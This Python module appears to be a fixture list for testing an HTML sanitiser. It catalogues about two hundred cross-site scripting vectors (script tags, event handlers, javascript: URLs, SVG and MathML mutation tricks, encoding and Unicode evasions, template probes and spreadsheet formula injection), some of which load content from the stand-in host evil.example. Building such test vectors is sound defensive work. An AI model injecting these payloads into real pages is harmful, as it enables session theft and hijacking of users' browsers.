"""Forms in which a text may try to become part of a page: our own list, each with a mark by which it is found again."""

from typing import Final

RUN: Final = "window.__pwned=1"
_ELEMENTS = (
    "<script>{run}</script>", "<SCRIPT>{run}</SCRIPT>", "<script >{run}</script >", "<script\n>{run}</script\n>",
    "<script/x>{run}</script>", "<script\x0c>{run}</script>", "<scr<script>ipt>{run}</scr</script>ipt>",
    "<<script>{run}//<</script>", "<script src=//evil.example/x.js></script>", "<script src=/s/0></script>",
    "<script type=module>{run}</script>", "<script type=importmap>{{}}</script>", "<script>{run}", "<script <b>{run}",
    "<iframe src=\"javascript:{run}\"></iframe>", "<iframe srcdoc=\"<script>{run}</script>\"></iframe>",
    "<iframe src=//evil.example></iframe>", "<frameset onload={run}>", "<object data=\"javascript:{run}\"></object>",
    "<embed src=\"data:text/html,<script>{run}</script>\">", "<applet code=x>", "<base href=//evil.example/>",
    "<base target=_blank>", "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=import href=/x>",
    "<meta http-equiv=refresh content=\"0;url=javascript:{run}\">",
    "<meta http-equiv=refresh content=0;//evil.example>",
    "<meta http-equiv=set-cookie content=a=b>", "<style>@import '//evil.example/x.css';</style>",
    "<style>*{{background:url(//evil.example)}}</style>", "<form action=//evil.example><button>x</button></form>",
    "<button formaction=\"javascript:{run}\">x</button>", "<input type=image src=x formaction=//evil.example>",
    "<isindex action=\"javascript:{run}\" type=image>", "<portal src=//evil.example></portal>",
    "<dialog open onclick={run}>x</dialog>", "<plaintext>", "<xmp><script>{run}</script>",
    "<listing><script>{run}</script>",
    "<template><script>{run}</script></template>", "<slot onslotchange={run}></slot>", "<x-y onclick={run}>x</x-y>",
)  # fmt: skip
_HANDLERS = (
    "<img src=x onerror={run}>", "<IMG SRC=x OnErRoR={run}>", "<img/src=x/onerror={run}>",
    "<img src=x\tonerror\t=\t{run}>",
    "<img src=x\nonerror\n=\n{run}>", "<img src=x onerror=\"{run}\">", "<img src=x onerror='{run}'>",
    "<img src=x onerror=`{run}`>",
    "<img src=x:x onerror=&#119;indow.__pwned=1>", "<img src=x onerror={run}//", "<img src=x onerror={run}",
    "<img src=x a='>' onerror={run}>", "<img src='x' x=\"\" onerror={run}\" y=\">", "<image src=x onerror={run}>",
    "<body onload={run}>", "<body onpageshow={run}>", "<html onmouseover={run}>", "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>", "<textarea autofocus onfocus={run}>", "<details open ontoggle={run}>",
    "<video><source onerror={run}></video>", "<audio src=x onerror={run}>", "<video poster=//evil.example/x.png>",
    "<marquee onstart={run}>", "<a tabindex=1 autofocus onfocus={run}>x</a>", "<b onpointerenter={run}>x</b>",
    "<div style=animation-name:x onanimationstart={run}>", "<p style=\"background:url(javascript:{run})\">",
    "<b style=width:expression({run})>", "<bdo dir=rtl onclick={run}>x</bdo>",
    "<table background=\"javascript:{run}\">",
)  # fmt: skip
_QUOTES = (
    "\"><script>{run}</script>", "'><script>{run}</script>", "\" onfocus={run} autofocus x=\"",
    "' onfocus={run} autofocus x='",
    "` onfocus={run} x=`", "\"/onfocus={run}/autofocus x=\"", "\" style=\"x:y\" x=\"", "--><script>{run}</script>",
    "--!><img src=x onerror={run}>", "]]><script>{run}</script>", "?><script>{run}</script>",
    "\\\"><script>{run}</script>",
    "</script><script>{run}</script>", "';{run};'", "\";{run};\"", "\\';{run};//", "*/{run}/*", "\"-{run}-\"",
    "${{{run}}}",
)  # fmt: skip
_SCHEMES: Final = (
    "javascript:{run}", "JaVaScRiPt:{run}", " javascript:{run}", "\x01javascript:{run}", "java\tscript:{run}",
    "java\nscript:{run}", "java\rscript:{run}", "javascript\t:{run}", "javascript&colon;{run}", "&#106;avascript:{run}",
    "&#x6A&#x61vascript:{run}", "javascript://%0a{run}", "javascript://example.org/%0d{run}", "javascript:/*x*/{run}",
    "vbscript:{run}", "data:text/html,<script>{run}</script>", "data:text/html;base64,PHNjcmlwdD4", "DATA:text/html,x",
    "data:image/svg+xml,<svg onload={run}>", "blob:http://127.0.0.1/x", "view-source:javascript:{run}",
    "feed:javascript:{run}",
    "jar:javascript:{run}!/", "<a href=javascript:{run}>x</a>", "<a href=\"java&#9;script:{run}\">x</a>",
    "<a href=&#1;javascript:{run}>x</a>", "<a href=//evil.example ping=//evil.example>x</a>",
    "<area href=javascript:{run}>",
    "[x](javascript:{run})", "![x](javascript:{run})", "<javascript:{run}>", "//evil.example/{run}",
    "\\\\evil.example\\{run}",
)  # fmt: skip
_FOREIGN = (
    "<svg onload={run}>", "<svg/onload={run}>", "<svg><script>{run}</script></svg>", "<svg><script href=data:,{run} />",
    "<svg><a xlink:href=javascript:{run}><text>x</text></a></svg>", "<svg><use href=data:image/svg+xml,x#y />",
    "<svg><animate onbegin={run} attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:{run}>",
    "<svg><foreignObject><iframe src=javascript:{run}></foreignObject></svg>", "<svg><image href=x onerror={run}>",
    "<svg><style><img src=x onerror={run}></style></svg>", "<svg><title><img src=x onerror={run}></title></svg>",
    "<svg><desc><script>{run}</script></desc></svg>", "<math href=javascript:{run}>x</math>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}></style></mglyph></table></mtext></math>",
    "<math><mi xlink:href=javascript:{run}>x</mi></math>",
    "<math><annotation-xml encoding=text/html><script>{run}</script>",
)  # fmt: skip
_BREAKOUTS = (
    "<noscript><p title=\"</noscript><img src=x onerror={run}>\">", "</title><script>{run}</script>",
    "</textarea><script>{run}</script>", "</style><script>{run}</script>",
    "</option></select><img src=x onerror={run}>",
    "</template><img src=x onerror={run}>", "</noscript><img src=x onerror={run}>",
    "</bdi></p><img src=x onerror={run}>",
    "</svg><img src=x onerror={run}>", "</datalist><script>{run}</script>", "</body></html><script>{run}</script>",
    "<!--<script>{run}</script>", "<!-- --!><script>{run}</script> -->", "<![CDATA[<script>{run}</script>]]>",
    "<!ENTITY x '<script>{run}</script>'>&x;", "<?xml-stylesheet href=\"javascript:{run}\"?>", "<?php {run} ?>",
    "<p title='<script>{run}</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
)  # fmt: skip
_TEMPLATES = (
    "{{{{7*7}}}}{run}", "{{% for x in y %}}{run}", "{{# x #}}{run}", "{{{{config}}}}{run}",
    "{{{{''.__class__.__mro__}}}}{run}",
    "#{{7*7}}{run}", "<%= 7*7 %>{run}", "@(7*7){run}", "%(x)s{run}", "%n%s%d{run}", "{{0.__class__}}{run}",
    "$x${{7*7}}{run}",
)  # fmt: skip
_LETTERS = (
    "&lt;script&gt;{run}&lt;/script&gt;", "&amp;lt;script&amp;gt;{run}", "&#60;script&#62;{run}",
    "&#x3C;script&#x3E;{run}",
    "&lt script&gt{run}", "&#0000060script&#62{run}", "&#xD800;{run}&", "&#x110000;{run}&#;", "&unknown;{run}&nbsp",
    "\u202e<script>{run}</script>\u202c", "\u2066<img src=x onerror={run}>\u2069",
    "\u2068\u2069\u2069</bdi><b onclick={run}>",
    "\u2028{run}\u2029", "\ufeff<script>{run}</script>", "\u200b<script>{run}</script>", "＜script＞{run}＜/script＞",
    "\u02bascript\u02ba{run}", "<\u017fcript>{run}</\u017fcript>", "<img\u00a0src=x\u00a0onerror={run}>",
    "\u0600\u06dd<b onclick={run}>",
    "%3Cscript%3E{run}%3C/script%3E", "\\u003cscript\\u003e{run}", "\\x3cscript\\x3e{run}", "+ADw-script+AD4-{run}",
    "<script\u0130>{run}</script>", "\u0338<script>{run}</script>", "<\x00script>{run}</script>",
    "<scr\x00ipt>{run}</scr\x00ipt>",
    "=cmd|'/c calc'!A1{run}", "@SUM(1+1){run}", "+1{run}", "-1{run}", "\t=1{run}", "\r=1{run}",
)  # fmt: skip
FORMS: Final = (
    *_ELEMENTS, *_HANDLERS, *_QUOTES, *_SCHEMES, *_FOREIGN, *_BREAKOUTS, *_TEMPLATES, *_LETTERS,
)  # fmt: skip


def mark_of(number: int) -> str:
    """What stands in a vector and in no other."""
    return f"m{number:03}m"


def _vector(number: int, form: str) -> str:
    mark = mark_of(number)
    told = form.format(run=f"{RUN}/*{mark}*/")
    return told if mark in told else f"{told}{mark}"


VECTORS: Final = tuple(_vector(number, form) for number, form in enumerate(FORMS))
SCHEMES: Final = tuple(one for one in VECTORS if FORMS[VECTORS.index(one)] in _SCHEMES)
